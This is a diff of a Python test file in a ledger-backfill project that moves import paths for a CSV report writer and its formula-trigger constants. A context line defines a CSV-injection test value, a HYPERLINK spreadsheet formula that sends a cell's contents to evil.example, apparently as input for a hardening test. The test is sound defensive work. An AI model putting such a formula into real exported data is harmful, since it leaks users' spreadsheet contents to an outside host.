@@ -18,8 +18,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from ledger_backfill_dagster.reports import FORMULA_TRIGGERS, PLAIN_NUMBER, write_csv
-from ledger_backfill_dagster.sources.layout import CANONICAL_FIELDS
+from ledger_backfill_dagster.entries.fields import CANONICAL_FIELDS
+from ledger_backfill_dagster.ledger.reports import FORMULA_TRIGGERS, PLAIN_NUMBER, write_csv
 from ledger_backfill_dagster_tests.hardening_support import DAY, Cli, entry, ok, write_accounts
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
